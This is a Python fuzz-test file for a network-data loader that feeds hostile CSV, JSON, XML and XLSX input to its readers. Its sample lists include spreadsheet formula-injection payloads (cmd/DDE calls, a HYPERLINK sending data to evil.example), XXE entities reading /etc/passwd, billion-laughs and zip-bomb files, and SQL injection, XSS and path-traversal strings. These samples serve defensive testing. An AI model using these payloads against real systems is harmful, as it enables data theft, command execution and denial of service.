"""Hostile input: every file either loads or is refused with a clean list of problems.

Random bytes, broken CSV, wrong encodings, huge fields, formula cells, NUL bytes, odd JSON
and broken XLSX zips go through the same readers ``maillage load`` uses. The only
acceptable outcomes are a table (with problems listed as FILE:LINE: column: message) or
:class:`loaders.problems.InvalidInput`; any other exception is a bug.

``MAILLAGE_FUZZ_EXAMPLES`` is the number of generated cases over the whole file
(default 10,000, which runs in well under a minute; ``make fuzz`` asks for more). Runs are
derandomized, so a failure reproduces with the same count.
"""

from __future__ import annotations

import codecs
import io
import json
import os
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from maillage.cli import cli
from maillage.loaders import tables as table_readers
from maillage.loaders.problems import InvalidInput, Problem
from maillage.loaders.tables import RawTable, read_csv_bytes
from maillage.loaders.validate import validate
from maillage.loaders.workbook import read_tables
from maillage.queries.sqlite_store import SQLiteStore
from maillage.services.loading import load_workbook

TOTAL = int(os.environ.get("MAILLAGE_FUZZ_EXAMPLES", "10000"))

#: Share of the total each generated test gets (they add up to 1).
SHARES = {
    "random_bytes": 0.19,
    "hostile_csv": 0.23,
    "workbook_pair": 0.16,
    "xml_files": 0.04,
    "encoded_text": 0.12,
    "formula_cells": 0.08,
    "json_files": 0.05,
    "xlsx_zips": 0.04,
    "xlsx_cells": 0.01,
    "load_into_store": 0.05,
    "export_round_trip": 0.01,
    "cli_load": 0.02,
}


def fuzz_settings(name: str) -> settings:
    """Settings for one generated test: its share of the total, reproducible, no deadline."""
    return settings(
        max_examples=max(10, round(TOTAL * SHARES[name])),
        derandomize=True,
        database=None,
        deadline=None,
        print_blob=True,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
            HealthCheck.function_scoped_fixture,
        ],
    )


# --- what hostile cells look like -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x/?", A2), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
ODD_VALUES = [
    "",
    " ",
    '"',
    '""',
    '"unbalanced',
    'a"b',
    "\x00",
    "a\x00b",
    "\r",
    "\n",
    "\r\n",
    "\u2028",
    "\ufeff",
    "\ud7ff",
    "²",
    "٢٠١٥",
    "１２",
    "9" * 5000,
    "1e400",
    "-0",
    "nan",
    "inf",
    "-inf",
    "1_000",
    "0000",
    "2015-02-30",
    "2015-13",
    "9999-12-31",
    "0001-01-01",
    "Ⅻ",
    "ﬀ",
    "İ",
    "\U0001f600",
    "Montréal",
    "Saguenay–Lac-Saint-Jean",
    "<script>alert(1)</script>",
    "'; DROP TABLE organizations; --",
    "../../etc/passwd",
    "{}",
    "[]",
    '{"a": 1}',
    "None",
    "null",
    "true",
]
VOCABULARY = [
    "enterprise",
    "Réseau",
    "partner",
    "membre_de",
    "member_of",
    "public",
    "members",
    "privé",
    "private",
    "06",
    "6",
    "17",
    "18",
    "CA",
    "FR",
    "Frace",
    "2015",
    "2016-03",
    "2020-12-31",
    "1.5",
    "0",
    "-1",
    "45.5",
    "-73.6",
    "a",
    "b",
    "c",
    "food|coop",
]
HEADERS = [
    "id",
    "name",
    "type",
    "region",
    "country",
    "lat",
    "lon",
    "founded",
    "members",
    "employees",
    "tags",
    "visibility",
    "source",
    "target",
    "weight",
    "since",
    "until",
    "note",
    "source_ref",
    "Identifiant",
    "Nom",
    "Région",
    "Cible",
    "Jusqu'à",
    "ID",
    "",
    "colour",
    "=cmd",
]

cells = st.one_of(
    st.sampled_from(VOCABULARY),
    st.sampled_from(ODD_VALUES),
    st.sampled_from(FORMULAS),
    st.text(max_size=12),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=30),
)
headers = st.lists(st.one_of(st.sampled_from(HEADERS), st.text(max_size=8)), min_size=0, max_size=9)


@st.composite
def delimited_text(draw: st.DrawFn) -> str:
    """A CSV-ish text: known or odd headers, ragged rows, stray quotes, odd line ends."""
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    line_end = draw(st.sampled_from(["\n", "\r\n", "\r", "\n\n"]))
    header = draw(headers)
    width = max(1, len(header))
    rows = draw(
        st.lists(st.lists(cells, min_size=0, max_size=width + draw(st.integers(0, 2))), max_size=8)
    )
    quote_all = draw(st.booleans())

    def render(cell: str) -> str:
        if quote_all or any(c in cell for c in (delimiter, '"', "\n", "\r")):
            if draw(st.integers(0, 9)) == 0:
                return '"' + cell  # an unbalanced quote, as hand-edited files have
            return '"' + cell.replace('"', '""') + '"'
        return cell

    lines = [delimiter.join(render(h) for h in header)]
    lines += [delimiter.join(render(c) for c in row) for row in rows]
    return line_end.join(lines) + draw(st.sampled_from(["", line_end]))


ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "utf-16-le", "utf-16-be",
             "shift_jis", "utf-32"]  # fmt: skip


# --- what a clean outcome looks like ----------------------------------------------------------


def assert_clean_problems(problems: list[Problem], *, label: str | None = None) -> None:
    """Each problem is one FILE:LINE: column: message line a user can read."""
    for problem in problems:
        assert isinstance(problem, Problem)
        assert isinstance(problem.line, int) and problem.line >= 0
        text = str(problem)
        assert "\n" not in text and "\r" not in text, text[:200]
        if label is not None:
            assert problem.file == label
        # Huge cells are not echoed whole into the report.
        assert len(text) < 2_000, text[:200]


def assert_clean_table(table: RawTable, label: str, *, first_row_line: int = 2) -> None:
    """A table as validation expects it; CSV rows start on line 2 (after the header), rows
    of graph files on the line (or at the list position) of their element."""
    assert isinstance(table, RawTable)
    assert table.kind in ("organizations", "ties")
    assert_clean_problems(table.problems, label=label)
    lines = [row.line for row in table.rows]
    assert lines == sorted(lines)
    assert all(line >= first_row_line for line in lines)
    for row in table.rows:
        assert all(isinstance(v, str) for v in row.cells.values())
        assert all(isinstance(v, str) for v in row.extras.values())


def read_and_validate(raw: bytes, label: str = "fuzz.csv") -> None:
    table = read_csv_bytes(raw, label=label)
    assert_clean_table(table, label)
    checked = validate([table], known_ids=lambda ids: {i for i in ids if i[:1] in "ab"})
    assert_clean_problems(checked.problems)
    if not table.readable:
        assert not checked.usable and checked.problems


# --- generated cases --------------------------------------------------------------------------


BOMS = [b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE]


@fuzz_settings("random_bytes")
@given(st.sampled_from(BOMS), st.binary(max_size=400))
def test_random_bytes_never_crash_the_csv_reader(bom, raw):
    read_and_validate(bom + raw)


@fuzz_settings("hostile_csv")
@given(delimited_text(), st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
def test_hostile_csv_is_read_or_refused_cleanly(text, encoding):
    read_and_validate(text.encode(encoding, errors="replace"))


@st.composite
def workbook_pair(draw: st.DrawFn) -> tuple[str, str]:
    """An organizations and a ties table over a few shared ids, with hostile cells mixed in."""
    ids = draw(st.lists(st.one_of(st.sampled_from(["a", "b", "c", "a "]), cells), max_size=5))
    org_header = ["id", "name", "type", *draw(st.lists(st.sampled_from(HEADERS[3:12]), max_size=3))]
    org_rows = [
        [org_id, draw(cells), draw(st.sampled_from(VOCABULARY[:2]) | cells)]
        + [draw(cells) for _ in org_header[3:]]
        for org_id in ids
    ]
    tie_header = [
        "source",
        "target",
        "type",
        *draw(st.lists(st.sampled_from(HEADERS[14:19]), max_size=3)),
    ]
    endpoints = st.sampled_from(ids) if ids else cells
    tie_rows = [
        [draw(endpoints), draw(endpoints), draw(st.sampled_from(VOCABULARY[2:5]) | cells)]
        + [draw(cells) for _ in tie_header[3:]]
        for _ in range(draw(st.integers(0, 6)))
    ]

    def csv_text(header: list[str], rows: list[list[str]]) -> str:
        out = io.StringIO()
        import csv

        csv.writer(out, lineterminator="\n").writerows([header, *rows])
        return out.getvalue()

    return csv_text(org_header, org_rows), csv_text(tie_header, tie_rows)


@fuzz_settings("workbook_pair")
@given(workbook_pair())
def test_organizations_and_ties_together_validate_cleanly(pair):
    orgs_text, ties_text = pair
    orgs = read_csv_bytes(orgs_text.encode("utf-8", errors="replace"), label="organizations.csv")
    ties = read_csv_bytes(ties_text.encode("utf-8", errors="replace"), label="ties.csv")
    assert_clean_table(orgs, "organizations.csv")
    assert_clean_table(ties, "ties.csv")
    checked = validate([orgs, ties])
    assert_clean_problems(checked.problems)
    valid_ids = {org["id"] for org in checked.organizations}
    for tie in checked.ties:
        assert {tie["source"], tie["target"]} <= valid_ids
        assert tie["source"] != tie["target"]


@fuzz_settings("encoded_text")
@given(delimited_text(), st.sampled_from(ENCODINGS))
def test_any_encoding_is_decoded_or_refused_cleanly(text, encoding):
    read_and_validate(text.encode(encoding, errors="replace"))


@fuzz_settings("formula_cells")
@given(st.lists(st.sampled_from(FORMULAS) | cells, min_size=1, max_size=6))
def test_formula_cells_are_kept_as_plain_text(values):
    import csv

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "name", "type", "note"])
    for number, value in enumerate(values):
        writer.writerow([f"org-{number}", value, "enterprise", value])
    table = read_csv_bytes(out.getvalue().encode(), label="f.csv")
    assert_clean_table(table, "f.csv")
    checked = validate([table])
    assert_clean_problems(checked.problems)
    for org in checked.organizations:
        # Readers never evaluate a cell: what comes out is what was written.
        assert org["name"] in [v.strip() for v in values]


# --- files on disk: JSON, XLSX-ish zips, folders ------------------------------------------------


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


def read_file_cleanly(path: Path) -> list[RawTable]:
    tables = read_tables([path])
    assert tables
    for table in tables:
        assert_clean_table(table, table.label, first_row_line=0)
    checked = validate(tables)
    assert_clean_problems(checked.problems)
    return tables


JSON_KEYS = ["nodes", "links", "edges", "id", "source", "target", "type", "name",
             "directed", "graph", "elements", "connections", "label", "from", "to",
             "relationships"]  # fmt: skip
json_leaves = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=10)
# Deferred rather than st.recursive: hypothesis inspects recursive's lambda source, which
# breaks when this file is edited while a long `make fuzz` run is going.
json_values: st.SearchStrategy[object] = st.deferred(
    lambda: (
        json_leaves
        | st.lists(json_values, max_size=4)
        | st.dictionaries(st.sampled_from(JSON_KEYS) | st.text(max_size=5), json_values, max_size=4)
    )
)
ODD_JSON = [
    "[" * 100_000 + "]" * 100_000,
    '{"a":' * 50_000 + "1" + "}" * 50_000,
    "[" * 100_000,
    "1" * 10_000,
    '{"nodes": [{"id": ' + "9" * 5000 + "}]}",
    '{"nodes": NaN, "links": Infinity}',
    '{"nodes": [{"id": "\\ud800"}], "links": []}',
    '{"nodes": [], "nodes": [{"id": "dup"}]}',
    '{"directed": true, "multigraph": true, "graph": {}, "nodes": {"id": "x"}, "links": 3}',
    '{"nodes": [{"id": "a"}, {"id": "a"}], "links": [{"source": "a", "target": "zz"}]}',
    '{"nodes": [{"id": null, "name": ["x"]}], "links": [{"source": {}, "target": []}]}',
    "\ufeff{}",
    "",
    "null",
    '"just a string"',
]


@fuzz_settings("json_files")
@given(json_values | st.sampled_from(ODD_JSON).map(lambda t: ("raw", t)))
def test_json_files_are_read_or_refused_cleanly(scratch, document):
    path = scratch / "graph.json"
    if isinstance(document, tuple) and document[:1] == ("raw",):
        path.write_text(document[1], encoding="utf-8", errors="surrogatepass")
    else:
        path.write_text(json.dumps(document), encoding="utf-8")
    read_file_cleanly(path)


XML_TAGS = ["graphml", "gexf", "graph", "node", "edge", "nodes", "edges", "key", "data",
            "attvalues", "attvalue", "attributes", "attribute", "default"]  # fmt: skip
XML_ATTRIBUTES = ["id", "source", "target", "key", "for", "attr.name", "attr.type", "label",
                  "value", "type", "defaultedgetype", "x"]  # fmt: skip
xml_values = st.sampled_from(VOCABULARY + FORMULAS[:3]) | st.text(alphabet="abc<&\"'é", max_size=5)


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


@st.composite
def xml_document(draw: st.DrawFn) -> str:
    """GraphML/GEXF-shaped XML with odd nesting, attributes and text."""

    def element(depth: int) -> str:
        tag = draw(st.sampled_from(XML_TAGS))
        names = draw(st.lists(st.sampled_from(XML_ATTRIBUTES), max_size=3, unique=True))
        attributes = "".join(f' {name}="{xml_escape(draw(xml_values))}"' for name in names)
        count = draw(st.integers(0, 3)) if depth < 4 else 0
        children = "".join(element(depth + 1) for _ in range(count))
        text = draw(st.sampled_from(["", "a", "2015", "&amp;", "<![CDATA[<x>]]>", "é"]))
        return f"<{tag}{attributes}>{text}{children}</{tag}>"

    root = draw(st.sampled_from(["graphml", "gexf"]))
    body = "".join(element(1) for _ in range(draw(st.integers(0, 3))))
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><graph>{body}</graph></{root}>'


@fuzz_settings("xml_files")
@given(xml_document(), st.sampled_from([".graphml", ".gexf"]), st.booleans())
def test_graphml_and_gexf_files_are_read_or_refused_cleanly(scratch, document, suffix, cut):
    path = scratch / f"graph{suffix}"
    raw = document.encode()
    path.write_bytes(raw[: len(raw) // 2] if cut else raw)
    read_file_cleanly(path)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{k} "{("&lol" + (str(k - 1) if k > 1 else "") + ";") * 10}">'
        for k in range(1, 10)
    )
    + ']><graphml><graph><node id="&lol9;"/></graph></graphml>'
)
HOSTILE_XML = {
    "deep.graphml": "<graphml><graph>" + "<g>" * 50_000 + "</g>" * 50_000 + "</graph></graphml>",
    "deep.gexf": "<gexf><graph><nodes>" + "<n>" * 50_000 + "</n>" * 50_000 + "</nodes></graph>",
    "xxe.graphml": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<graphml><graph><node id="&x;"/></graph></graphml>',
    "xxe-param.gexf": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "file:///etc/passwd">'
    "%x;]><gexf><graph/></gexf>",
    "laughs.graphml": BILLION_LAUGHS,
    "encoding.graphml": '<?xml version="1.0" encoding="x-no-such"?><graphml/>',
    "utf16-claim.gexf": '<?xml version="1.0" encoding="UTF-16"?><gexf/>',
    "empty.graphml": "",
    "text.gexf": "just text",
    "deep-list.json": '{"nodes": [{"id": "a", "name": ' + "[" * 950 + "]" * 950 + "}]}",
    "deep-dict.json": '{"nodes": [{"id": "a", "name": ' + '{"a":' * 950 + "1" + "}" * 950 + "}]}",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_hostile_graph_files_are_refused_cleanly_and_never_read_local_files(scratch, name):
    path = scratch / name
    path.write_text(HOSTILE_XML[name], encoding="utf-8")
    tables = read_file_cleanly(path)
    cells = " ".join(
        value
        for table in tables
        for row in table.rows
        for value in (*row.cells.values(), *row.extras.values())
    )
    assert "root:" not in cells  # no external entity was resolved
    assert "lollollol" not in cells  # no entity was expanded


def xlsx_bytes(rows: list[list[object]] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "organizations"
    for row in rows or [["id", "name", "type"], ["a", "A", "enterprise"]]:
        sheet.append(row)
    ties = book.create_sheet("ties")
    ties.append(["source", "target", "type"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


VALID_XLSX = xlsx_bytes()
XLSX_MEMBERS = sorted(zipfile.ZipFile(io.BytesIO(VALID_XLSX)).namelist())


@st.composite
def xlsx_like(draw: st.DrawFn) -> bytes:
    """A real workbook mangled: bytes flipped, cut short, or its zip members replaced."""
    how = draw(st.sampled_from(["flip", "truncate", "members", "random"]))
    if how == "flip":
        raw = bytearray(VALID_XLSX)
        for _ in range(draw(st.integers(1, 8))):
            raw[draw(st.integers(0, len(raw) - 1))] = draw(st.integers(0, 255))
        return bytes(raw)
    if how == "truncate":
        return VALID_XLSX[: draw(st.integers(0, len(VALID_XLSX)))]
    if how == "random":
        return b"PK\x03\x04" + draw(st.binary(max_size=200))
    source = zipfile.ZipFile(io.BytesIO(VALID_XLSX))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name in XLSX_MEMBERS:
            choice = draw(st.integers(0, 5))
            if choice == 0:
                continue  # member left out
            content = source.read(name)
            if choice == 1:
                content = draw(st.binary(max_size=80))
            elif choice == 2:
                content = content[: draw(st.integers(0, len(content)))]
            elif choice == 3:
                content = content.replace(b'"', b"'", draw(st.integers(0, 3)))
            target.writestr(name, content)
    return out.getvalue()


@fuzz_settings("xlsx_zips")
@given(xlsx_like())
def test_broken_xlsx_workbooks_are_refused_cleanly(scratch, raw):
    path = scratch / "book.xlsx"
    path.write_bytes(raw)
    read_file_cleanly(path)


@st.composite
def xlsx_cells(draw: st.DrawFn) -> list[list[object]]:
    """Well-formed workbooks whose cells hold odd values of every spreadsheet type."""
    value = st.one_of(
        cells.filter(
            lambda v: "\x00" not in v and not any(ord(c) < 32 and c not in "\t\n\r" for c in v)
        ),
        st.integers(-(2**40), 2**40),
        st.floats(allow_nan=False, allow_infinity=False),
        st.booleans(),
        st.none(),
    )
    rows: list[list[object]] = draw(st.lists(st.lists(value, min_size=3, max_size=5), max_size=5))
    return [["id", "name", "type", "founded", "lat"], *rows]


@fuzz_settings("xlsx_cells")
@given(xlsx_cells())
def test_odd_xlsx_cells_are_read_cleanly(scratch, rows):
    path = scratch / "cells.xlsx"
    path.write_bytes(xlsx_bytes(rows))
    read_file_cleanly(path)


# --- all the way into the store and through the CLI ---------------------------------------------


@fuzz_settings("load_into_store")
@given(workbook_pair())
def test_load_is_all_or_nothing_on_hostile_workbooks(scratch, pair):
    folder = scratch / "workbook"
    folder.mkdir(exist_ok=True)
    (folder / "organizations.csv").write_text(pair[0], encoding="utf-8", errors="replace")
    (folder / "ties.csv").write_text(pair[1], encoding="utf-8", errors="replace")
    with SQLiteStore(":memory:") as store:
        before = store.info()
        try:
            outcome = load_workbook([folder], store)
        except InvalidInput as refused:
            assert refused.problems
            assert_clean_problems(refused.problems)
            after = store.info()
            assert after == before
        else:
            assert not outcome.skipped
            assert store.info().organizations == outcome.result.organizations


@st.composite
def loadable_pair(draw: st.DrawFn) -> tuple[str, str]:
    """Valid ids, types and ends, with hostile names, notes, property names and values."""
    import csv

    ids = draw(st.lists(st.sampled_from(["a", "b", "c", "d", "e"]), min_size=2, unique=True))
    text = cells.filter(lambda v: bool(v.strip()) and "\x00" not in v)
    extra = draw(st.sampled_from(["colour", "=cmd|' /C calc'!A0", "@SUM(A1)", "note\x0b"]))
    orgs = io.StringIO()
    writer = csv.writer(orgs, lineterminator="\n")
    writer.writerow(["id", "name", "type", "visibility", extra])
    for org_id in ids:
        kind = draw(st.sampled_from(["enterprise", "Réseau", "funder"]))
        level = draw(st.sampled_from(["public", "members", "privé"]))
        writer.writerow([org_id, draw(text), kind, level, draw(cells)])
    ties = io.StringIO()
    writer = csv.writer(ties, lineterminator="\n")
    writer.writerow(["source", "target", "type", "note", "source_ref"])
    pairs = [(a, b) for a in ids for b in ids if a < b]
    for a, b in draw(st.lists(st.sampled_from(pairs), unique=True, max_size=4)):
        writer.writerow(
            [a, b, draw(st.sampled_from(["partner", "membre_de"])), draw(cells), draw(cells)]
        )
    return orgs.getvalue(), ties.getvalue()


@fuzz_settings("export_round_trip")
@given(loadable_pair())
def test_whatever_loads_exports_in_every_format_and_reads_back_cleanly(scratch, pair):
    from maillage.loaders import export as writers
    from maillage.queries.store import GraphQuery

    folder = scratch / "round-trip-in"
    folder.mkdir(exist_ok=True)
    (folder / "organizations.csv").write_text(pair[0], encoding="utf-8", errors="replace")
    (folder / "ties.csv").write_text(pair[1], encoding="utf-8", errors="replace")
    with SQLiteStore(":memory:") as store:
        try:
            load_workbook([folder], store)
        except InvalidInput:
            event("refused")
            return
        event("loaded")
        orgs, ties = store.read_graph(GraphQuery(audience="private"))
    out = scratch / "round-trip-out"
    written = [
        *writers.write_csv_workbook(orgs, ties, out / "csv"),
        writers.write_xlsx_workbook(orgs, ties, out / "book.xlsx"),
        writers.write_json(orgs, ties, out / "graph.json"),
        writers.write_graphml(orgs, ties, out / "graph.graphml"),
    ]
    for path in written:
        read_file_cleanly(path)


@fuzz_settings("cli_load")
@given(delimited_text(), st.sampled_from(["utf-8", "cp1252", "utf-16-le", "shift_jis"]))
def test_cli_load_exits_0_or_2_and_never_shows_a_traceback(scratch, text, encoding):
    path = scratch / "cli-input.csv"
    path.write_bytes(text.encode(encoding, errors="replace"))
    db = scratch / "cli.db"
    result = CliRunner().invoke(cli, ["--db", str(db), "load", str(path)])
    assert result.exit_code in (0, 2), result.output[-2000:]
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output


# --- explicit cases the generators would rarely reach ----------------------------------------


def test_huge_name_field_loads():
    name = "Coopérative " * 400_000  # about 5 MB in one cell
    raw = f'id,name,type\na,"{name}",enterprise\n'.encode()
    table = read_csv_bytes(raw, label="big.csv")
    checked = validate([table])
    assert not checked.problems
    assert checked.organizations[0]["name"] == name.strip()


def test_field_beyond_the_csv_limit_is_a_clean_problem():
    raw = b'id,name,type\na,"' + b"x" * (17 * 1024 * 1024) + b'",enterprise\n'
    table = read_csv_bytes(raw, label="huge.csv")
    assert not table.readable
    assert_clean_problems(table.problems, label="huge.csv")


@pytest.mark.parametrize("column", ["country", "region", "type", "founded", "visibility", "lat"])
def test_huge_coded_cells_are_refused_quickly_without_echoing_them(column):
    value = "x" * 2_000_000
    raw = f"id,name,type,{column}\na,A,enterprise,{value}\n".encode()
    if column == "type":
        raw = f"id,name,type\na,A,{value}\n".encode()
    checked = validate([read_csv_bytes(raw, label="wide.csv")])
    assert [p.column for p in checked.problems] == [column]
    assert_clean_problems(checked.problems)


@pytest.mark.parametrize(
    "raw",
    [
        b"\x00" * 100,
        b"id,name,type\na,A\x00,enterprise\n",
        "id,name,type\na,Société,enterprise\n".encode("utf-16-le"),
        "id,name,type\na,Société,enterprise\n".encode("utf-16-be"),
        b"\xff\xfe" + b"\x00\xd8",  # UTF-16 BOM then a lone surrogate
        b"\xef\xbb\xbf\xff",  # UTF-8 BOM then invalid UTF-8
        b"\x81\x8d\x8f\x90\x9d",  # the five bytes Windows-1252 leaves undefined
        codecs.BOM_UTF32_LE + "id,name,type\n".encode("utf-32-le"),
        b'id,name,type\n"a,A,enterprise\n',
        b"id,name,type\r\na,A,enterprise,extra,extra\r\n",
        b"\n\n\n",
        b"",
    ],
)
def test_known_nasty_files_are_refused_or_read_cleanly(raw):
    read_and_validate(raw)


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_named_as_such(encoding):
    raw = "id,name,type\na,Société,enterprise\n".encode(encoding)
    table = read_csv_bytes(raw, label="u.csv")
    assert not table.readable
    assert "UTF-16" in table.problems[0].message


def test_region_written_in_odd_digits_is_a_problem_not_a_crash():
    raw = "id,name,type,region\na,A,enterprise,²\nb,B,enterprise,१\n".encode()
    checked = validate([read_csv_bytes(raw, label="r.csv")])
    assert {p.column for p in checked.problems} <= {"region"}
    assert_clean_problems(checked.problems)


def test_zip_asking_for_an_unknown_zip_version_is_refused_cleanly(scratch):
    # Found by the 200,000-case run: zipfile raises NotImplementedError ("zip file version
    # 6.4") for a directory entry whose "version needed to extract" is too new.
    raw = bytearray(VALID_XLSX)
    entry = raw.index(b"PK\x01\x02")
    raw[entry + 6 : entry + 8] = (64).to_bytes(2, "little")
    path = scratch / "version.xlsx"
    path.write_bytes(bytes(raw))
    tables = read_file_cleanly(path)
    assert [table.readable for table in tables] == [False]


def test_zip_bomb_is_refused_without_being_inflated(scratch, monkeypatch):
    monkeypatch.setattr(table_readers, "MAX_XLSX_UNCOMPRESSED", 1024 * 1024)
    path = scratch / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as book:
        for name in XLSX_MEMBERS:
            if name != "xl/worksheets/sheet1.xml":
                book.writestr(name, zipfile.ZipFile(io.BytesIO(VALID_XLSX)).read(name))
        book.writestr("xl/worksheets/sheet1.xml", b"<" * (2 * 1024 * 1024))
    assert path.stat().st_size < 100_000
    tables = read_file_cleanly(path)
    assert [table.readable for table in tables] == [False]
    assert "uncompressed" in tables[0].problems[0].message


def test_store_is_untouched_by_a_refused_cli_load(scratch):
    db = scratch / "untouched.db"
    good = scratch / "good"
    good.mkdir(exist_ok=True)
    (good / "organizations.csv").write_text("id,name,type\na,A,enterprise\nb,B,network\n")
    (good / "ties.csv").write_text("source,target,type\na,b,member_of\n")
    assert CliRunner().invoke(cli, ["--db", str(db), "load", str(good)]).exit_code == 0
    before = sqlite3.connect(db).execute("SELECT * FROM organizations ORDER BY id").fetchall()
    bad = scratch / "bad.csv"
    bad.write_bytes(b"id,name,type\nc,\x00C,enterprise\n")
    result = CliRunner().invoke(cli, ["--db", str(db), "load", str(good), str(bad)])
    assert result.exit_code == 2
    after = sqlite3.connect(db).execute("SELECT * FROM organizations ORDER BY id").fetchall()
    assert after == before
